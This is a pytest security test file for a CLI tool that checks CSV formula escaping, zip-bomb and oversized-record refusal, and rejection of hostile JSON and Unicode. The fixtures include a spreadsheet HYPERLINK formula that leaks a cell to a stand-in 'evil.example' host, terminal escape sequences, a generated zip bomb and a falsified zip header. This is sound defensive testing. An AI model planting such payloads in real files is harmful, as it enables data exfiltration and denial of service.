"""SEC-9, SEC-10, SEC-3, SEC-1 (issue 17 items 9, 10, 12, 13): what chorus writes for a
spreadsheet or a terminal is safe to open, no input makes its memory grow with the
input's size, and hostile or odd input gets one sentence and its exit code. The hostile
inputs are built here: a zip bomb, a flow of 3,000 bad rows, a batch line just over
1 MiB. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from tests.conftest import SAMPLE_SIRETS

ADA = "ada.admin@example.fr"
MIB = 1024 * 1024
INTERNAL = ("Erreur interne", "Internal error")


@pytest.fixture
def admin(cli):
    """Ada, logged in, the store's first admin."""
    cli.logged_in(ADA)
    made = cli("admin", "bootstrap", "--email", ADA, "--last-name", "A", "--first-name", "Ada")
    assert made.exit_code == 0, made.stderr
    return cli


def no_internal_error(result) -> None:
    assert not any(text in result.stderr for text in INTERNAL), result.stderr


def flow(tmp_path, name: str, text: str):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def imported(cli, path, kind: str = "accounts", *extra: str):
    return cli("bulk", "import", str(path), "--kind", kind, *extra, "--json")


def exported(cli, kind: str = "accounts", fmt: str = "csv") -> str:
    result = cli("bulk", "export", kind, "--format", fmt)
    assert result.exit_code == 0, result.stderr
    return result.stdout


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def store(cli, sql: str, **params: str) -> None:
    """Write a row as another tool (or chorus before SEC-1) could have written it."""
    from sqlalchemy import text

    from tests.test_structures import store_session

    with store_session(cli) as s:
        s.exec(text(sql), params=params)
        s.commit()


# --- SEC-9: exports and listings safe to open ---------------------------------------------

FORMULAS = {
    "eve@example.fr": ('=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "@SUM(1+1)"),
    "max@example.fr": ("-2+3", "'=déjà cité"),
}
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def formula_accounts(cli) -> None:
    """Names typed without a session (``account create``), as anyone can."""
    for email, (last, first) in FORMULAS.items():
        made = cli("account", "create", "--email", email, "--last-name", last,
                   "--first-name", first, "--phone", "+33 6 12 34 56 78")  # fmt: skip
        assert made.exit_code == 0, made.stderr


def test_sec9_bulk_export_csv_quotes_every_cell_a_spreadsheet_reads_as_a_formula(admin):
    formula_accounts(admin)
    rows = {row["login_email"]: row for row in rows_of(exported(admin))}
    eve, max_ = rows["eve@example.fr"], rows["max@example.fr"]
    assert eve["last_name"] == "'" + FORMULAS["eve@example.fr"][0]
    assert eve["first_name"] == "'@SUM(1+1)"
    assert max_["last_name"] == "'-2+3"
    assert max_["first_name"] == "''=déjà cité"  # quotes before a formula: one more
    assert eve["phone"].startswith("'+33")
    assert rows[ADA]["last_name"] == "Curie"  # plain text stays as it is


def test_sec9_an_export_re_imports_unchanged_quotes_and_all(admin, tmp_path):
    formula_accounts(admin)
    path = tmp_path / "accounts.csv"
    path.write_text(exported(admin), encoding="utf-8")
    before = exported(admin, fmt="jsonl")
    result = imported(admin, path)
    assert result.exit_code == 0, result.stderr
    summary = result.json()
    assert (summary["unchanged"], summary["updated"], summary["failed"]) == (3, 0, 0)
    assert exported(admin, fmt="jsonl") == before
    shown = {json.loads(line)["login_email"]: json.loads(line) for line in before.splitlines()}
    assert shown["max@example.fr"]["first_name"] == "'=déjà cité"
    assert shown["eve@example.fr"]["phone"].startswith("+33")


def test_sec9_stored_control_characters_leave_exports_escaped(admin):
    stored = "Cli\x1b]0;pwned\x07ck\x9b2J\u202e"
    store(admin, "UPDATE account SET first_name = :v WHERE login_email = :e", v=stored, e=ADA)
    as_csv = exported(admin)
    assert not any(c in as_csv for c in RAW)
    assert rows_of(as_csv)[0]["first_name"] == "Cli\\x1b]0;pwned\\x07ck\\x9b2J\\u202e"
    as_jsonl = exported(admin, fmt="jsonl")
    assert not any(c in as_jsonl for c in RAW)
    assert json.loads(as_jsonl.splitlines()[0])["first_name"] == stored  # the same data


def test_sec9_csv_listings_quote_formulas_and_numbers_stay_numbers(admin, tmp_path):
    structures = flow(tmp_path, "s.csv", f"SIRET;Libellé\n{SAMPLE_SIRETS['bakery']};=1+2\n")
    from tests.conftest import load_sample

    load_sample(admin, ADA)
    assert admin.login(ADA).exit_code == 0
    loaded = imported(admin, structures, "structures")
    assert loaded.exit_code == 0, loaded.stderr
    listed = admin("structure", "list", "--format", "csv")
    assert listed.exit_code == 0, listed.stderr
    (row,) = rows_of(listed.stdout)
    assert row["label"] == "'=1+2"
    assert row["identifier"] == SAMPLE_SIRETS["bakery"]
    as_csv = exported(admin, "structures")
    assert rows_of(as_csv)[0]["label"] == "'=1+2"
    again = tmp_path / "structures.csv"
    again.write_text(as_csv, encoding="utf-8")
    reloaded = imported(admin, again, "structures")
    assert reloaded.exit_code == 0, reloaded.stderr
    assert (reloaded.json()["unchanged"], reloaded.json()["updated"]) == (1, 0)
    mails = admin("mail", "list", "--format", "csv")
    assert mails.exit_code == 0, mails.stderr
    numbers = [row["id"] for row in rows_of(mails.stdout)]
    assert numbers and all(n.isdigit() for n in numbers)  # a number stays a number


# --- SEC-10: bounded memory ------------------------------------------------------------------


def sirene_operator(cli):
    from tests.conftest import SIRENE_OPERATOR, load_sample

    load_sample(cli)
    assert cli.login(SIRENE_OPERATOR).exit_code == 0
    return cli


def stock_header() -> str:
    from chorus_cli.sirene import sample_files

    establishments, _units = sample_files()
    return establishments.read_text(encoding="utf-8").splitlines()[0]


def zipped(path, member: str, data: bytes) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(member, data)


def still_there(cli) -> None:
    found = cli("sirene", "lookup", SAMPLE_SIRETS["bakery"], "--json")
    assert found.exit_code == 0 and found.json()["siret"] == SAMPLE_SIRETS["bakery"]


def test_sec10_a_sirene_zip_bomb_is_refused_before_it_expands(cli, tmp_path):
    sirene_operator(cli)
    bomb = tmp_path / "StockEtablissement_utf8.zip"
    zipped(bomb, "StockEtablissement_utf8.csv", (stock_header() + "\n").encode() + b"0" * 30 * MIB)
    assert bomb.stat().st_size * 100 < 30 * MIB  # a ratio past 100x
    result = cli("sirene", "import", str(bomb))
    assert result.exit_code == 2, result.stderr
    assert "SEC-10" in result.stderr and bomb.name in result.stderr
    assert "100" in result.stderr
    no_internal_error(result)
    still_there(cli)


def test_sec10_a_zip_member_is_counted_as_it_expands_whatever_it_declares(tmp_path):
    """The bound holds on the bytes that come out, not on the sizes the archive states:
    an archive read as if it were 100 bytes big stops after 10,000."""
    from chorus_cli.kernel.errors import BadInput
    from chorus_cli.sirene.reader import _Bounded

    archive = tmp_path / "a.zip"
    zipped(archive, "a.csv", b"x" * 50_000)
    small = tmp_path / "small.zip"
    small.write_bytes(b"y" * 100)
    with zipfile.ZipFile(archive) as opened, opened.open("a.csv") as raw:
        bounded = _Bounded(raw, small)
        read = 0
        with pytest.raises(BadInput) as refused:
            while chunk := bounded.read1(4096):
                read += len(chunk)
    assert refused.value.key == "sec10.zip_ratio"
    assert read <= 100 * 100


def test_sec10_a_zip_that_understates_its_size_is_refused(cli, tmp_path):
    sirene_operator(cli)
    import secrets

    archive = tmp_path / "StockEtablissement_utf8.zip"
    rows = "\n".join(secrets.token_hex(50) for _ in range(4000))  # barely compressible
    data = (stock_header() + "\n" + rows + "\n").encode()
    zipped(archive, "StockEtablissement_utf8.csv", data)
    raw = archive.read_bytes()
    declared = len(data).to_bytes(4, "little")
    assert raw.count(declared) == 2  # the local header's and the central directory's
    archive.write_bytes(raw.replace(declared, (1000).to_bytes(4, "little")))
    result = cli("sirene", "import", str(archive))
    # zipfile expands no more than the declared size and then finds the CRC wrong: a
    # guard (it passed before SEC-10) that an understated archive is refused whole,
    # never imported as its first 1000 bytes; counting is tested just above.
    assert result.exit_code == 2, result.stderr
    assert archive.name in result.stderr and "CRC" in result.stderr
    no_internal_error(result)
    still_there(cli)


@pytest.mark.parametrize(
    ("method", "name"), [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "LZMA")]
)
def test_sec10_a_sirene_zip_in_bzip2_or_lzma_is_refused_before_it_expands(
    cli, tmp_path, method, name
):
    """zipfile expands these a whole block at a time, with no bound on what comes out:
    only stored and deflate members are read (INSEE publishes deflate)."""
    sirene_operator(cli)
    archive = tmp_path / "StockEtablissement_utf8.zip"
    with zipfile.ZipFile(archive, "w", method) as opened:
        opened.writestr("StockEtablissement_utf8.csv", (stock_header() + "\n").encode())
    result = cli("sirene", "import", str(archive))
    assert result.exit_code == 2, result.stderr
    assert "SEC-3" in result.stderr and name in result.stderr and archive.name in result.stderr
    no_internal_error(result)
    still_there(cli)


def open_quote_record(first: str, size: int) -> str:
    """A CSV record opened by a quote and carried over many short lines, one more field on
    each (``","b``): past ``size`` bytes in all, though no line is long."""
    return first + '"a\n' + '","b\n' * (size // 5 + 1)


def test_sec10_a_sirene_record_over_1_mib_across_its_lines_is_refused(cli, tmp_path):
    sirene_operator(cli)
    stock = tmp_path / "StockEtablissement_utf8.csv"
    stock.write_text(stock_header() + "\n" + open_quote_record("", MIB), encoding="utf-8")
    result = cli("sirene", "import", str(stock))
    assert result.exit_code == 2, result.stderr
    assert "SEC-10" in result.stderr and "ligne 2 " in result.stderr
    no_internal_error(result)
    still_there(cli)


def test_sec10_a_flow_record_over_1_mib_across_its_lines_is_refused(admin, tmp_path, unchanged):
    text = "login_email,last_name,first_name\na@example.fr,A,B\n"
    path = flow(tmp_path, "quoted.csv", text + open_quote_record("b@example.fr,", MIB))
    with unchanged():
        result = imported(admin, path)
    assert result.exit_code == 2
    assert "SEC-10" in result.stderr and "ligne 3 " in result.stderr
    assert "quoted.csv" in result.stderr
    no_internal_error(result)


def test_sec10_a_sirene_line_over_1_mib_is_refused_without_reading_it_whole(cli, tmp_path):
    sirene_operator(cli)
    stock = tmp_path / "StockEtablissement_utf8.csv"
    stock.write_text(stock_header() + "\n" + "9" * (MIB + 10) + "\n", encoding="utf-8")
    result = cli("sirene", "import", str(stock))
    assert result.exit_code == 2, result.stderr
    assert "SEC-10" in result.stderr and "2" in result.stderr
    no_internal_error(result)
    still_there(cli)


def test_sec10_a_flow_reports_its_first_1000_bad_rows_then_a_count(admin, tmp_path, unchanged):
    unknown = SAMPLE_SIRETS["unknown"]
    lines = ["login_email;last_name;first_name;structure"]
    for n in range(2, 3002):  # lines 2..3001: odd ones fail their own checks, even ones
        # fail on the store (no such structure): each chunk reports both kinds.
        login = "pas-une-adresse" if n % 2 else f"agent{n}@example.fr"
        lines.append(f"{login};Agent;N{n};{unknown}")
    path = flow(tmp_path, "bad.csv", "\n".join(lines) + "\n")
    with unchanged():
        result = imported(admin, path)
    assert result.exit_code == 2
    summary = result.json()
    assert (summary["failed"], summary["unlisted"]) == (3000, 2000)
    assert [e["line"] for e in summary["errors"]] == list(range(2, 1002))
    assert result.stderr.count("Ligne ") == 1000
    assert "2000 autres lignes en échec" in result.stderr and "SEC-10" in result.stderr


def test_sec10_a_flow_remembers_a_bounded_number_of_unknown_keys(admin, tmp_path):
    row = {"last_name": "K", "first_name": "L"}
    lines = [json.dumps({"login_email": f"k{n}@example.fr", f"extra_{n}": "x", **row})
             for n in range(1500)]  # fmt: skip
    path = flow(tmp_path, "keys.jsonl", "\n".join(lines) + "\n")
    result = imported(admin, path, "accounts", "--dry-run")
    assert result.exit_code == 0, result.stderr[-500:]
    summary = result.json()
    assert summary["created"] == 1500
    assert summary["unknown_columns"] == [f"extra_{n}" for n in range(1000)]


def test_sec10_a_flow_line_over_1_mib_is_refused_by_its_number(admin, tmp_path, unchanged):
    good = json.dumps({"login_email": "a@example.fr", "last_name": "A", "first_name": "B"})
    huge = json.dumps({"login_email": "b@example.fr", "last_name": "x" * MIB, "first_name": "B"})
    path = flow(tmp_path, "huge.jsonl", f"{good}\n{huge}\n")
    with unchanged():
        result = imported(admin, path)
    assert result.exit_code == 2
    assert "SEC-10" in result.stderr and "2" in result.stderr and "huge.jsonl" in result.stderr
    no_internal_error(result)


def batch(cli, text: str, *options: str):
    return cli("batch", "-", *options, input=text)


def test_sec10_a_batch_line_over_1_mib_is_refused_by_its_number(admin):
    text = "# a comment\naccount show --json\n" + "x" * (MIB + 1) + "\nwhoami\n"
    for options in ((), ("--keep-going",)):
        result = batch(admin, text, *options)
        assert result.exit_code == 2
        assert "ligne 3" in result.stderr and "SEC-10" in result.stderr
        assert json.loads(result.stdout)["login_email"] == ADA  # line 2 ran, line 4 did not
        no_internal_error(result)


def test_sec10_a_batch_line_of_exactly_1_mib_is_read(admin):
    result = batch(admin, "x" * MIB + "\n")
    assert result.exit_code == 2
    assert "SEC-10" not in result.stderr  # refused as an unknown command, once read


def test_ops6_a_batch_file_with_a_bom_runs_its_first_line(admin, tmp_path):
    path = tmp_path / "lines.txt"
    path.write_text("account show --json\n", encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    result = admin("batch", str(path))
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["login_email"] == ADA


# --- SEC-3: hostile input gets its sentence ----------------------------------------------------


def test_sec3_json_nested_100k_deep_is_a_bad_line(admin, tmp_path, unchanged):
    deep = '{"login_email": ' + "[" * 100_000 + "]" * 100_000 + "}"
    path = flow(tmp_path, "deep.jsonl", deep + "\n")
    with unchanged():
        result = imported(admin, path)
    assert result.exit_code == 2
    assert [(e["line"], e["rule"]) for e in result.json()["errors"]] == [(1, "SEC-3")]
    no_internal_error(result)


@pytest.mark.parametrize("value", ["1e309", "NaN", "true", "12"])
def test_sec3_a_json_value_that_is_no_string_is_refused_in_a_name(admin, tmp_path, value):
    line = f'{{"login_email": "nombre@example.fr", "last_name": {value}, "first_name": "B"}}'
    result = imported(admin, flow(tmp_path, "odd.jsonl", line + "\n"))
    assert result.exit_code == 2
    (error,) = result.json()["errors"]
    assert (error["line"], error["column"]) == (1, "last_name")
    assert "JSON" in error["message"]
    assert "nombre@example.fr" not in exported(admin)


def test_sec3_json_digits_still_name_a_structure_and_a_phone(admin, tmp_path):
    line = json.dumps({"login_email": "p@example.fr", "last_name": "P", "first_name": "Q",
                       "phone": 33612345678})  # fmt: skip
    result = imported(admin, flow(tmp_path, "digits.jsonl", line + "\n"))
    assert result.exit_code == 0, result.stderr
    assert "+33" in exported(admin, fmt="jsonl")


def test_sec3_json_flow_keys_may_be_french_labels(admin, tmp_path):
    line = json.dumps({"Adresse e-mail": "fr@example.fr", "Nom": "Durand", "Prénom": "Élise",
                       "Téléphone": "04 76 11 22 33"}, ensure_ascii=False)  # fmt: skip
    result = imported(admin, flow(tmp_path, "fr.jsonl", line + "\n"))
    assert result.exit_code == 0, result.stderr
    assert result.json()["created"] == 1 and result.json()["unknown_columns"] == []
    shown = {json.loads(row)["login_email"]: json.loads(row) for row in
             exported(admin, fmt="jsonl").splitlines()}  # fmt: skip
    assert shown["fr@example.fr"]["first_name"] == "Élise"


def patched(path, flag: int = 0, method: int | None = None) -> None:
    """Set a general-purpose flag or the compression method in both of a zip's headers,
    as an encrypting or a Deflate64 archiver writes them (zipfile writes neither)."""
    data = bytearray(path.read_bytes())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.index(signature)
        flags = int.from_bytes(data[start + at : start + at + 2], "little") | flag
        data[start + at : start + at + 2] = flags.to_bytes(2, "little")
        if method is not None:
            data[start + at + 2 : start + at + 4] = method.to_bytes(2, "little")
    path.write_bytes(bytes(data))


@pytest.mark.parametrize(("flag", "method", "says"), [(1, None, "chiffré"), (0, 9, "Deflate64")])
def test_sec3_an_encrypted_or_deflate64_zip_gets_its_sentence(cli, tmp_path, flag, method, says):
    sirene_operator(cli)
    archive = tmp_path / "StockEtablissement_utf8.zip"
    zipped(archive, "StockEtablissement_utf8.csv", (stock_header() + "\n").encode())
    patched(archive, flag, method)
    result = cli("sirene", "import", str(archive))
    assert result.exit_code == 2, result.stderr
    assert "SEC-3" in result.stderr and says in result.stderr
    no_internal_error(result)
    still_there(cli)


# --- SEC-1: line and paragraph separators -----------------------------------------------------


@pytest.mark.parametrize("separator", ["\u2028", "\u2029"])
def test_sec1_line_and_paragraph_separators_are_refused_in_names(cli, unchanged, separator):
    with unchanged():
        result = cli("account", "create", "--email", "s@example.fr", "--last-name",
                     f"Dupont{separator}Admin", "--first-name", "Jean")  # fmt: skip
    assert result.exit_code == 2
    assert "SEC-1" in result.stderr and f"U+{ord(separator):04X}" in result.stderr
    assert separator not in result.stderr


def test_sec1_a_flow_refuses_a_line_separator_in_an_address_by_its_line(admin, tmp_path):
    line = json.dumps({"login_email": "w@example.fr", "last_name": "W", "first_name": "V",
                       "workplace_address": "1 rue\u2028Paris"})  # fmt: skip
    result = imported(admin, flow(tmp_path, "w.jsonl", line + "\n"))
    assert result.exit_code == 2
    assert [(e["line"], e["rule"]) for e in result.json()["errors"]] == [(1, "SEC-1")]
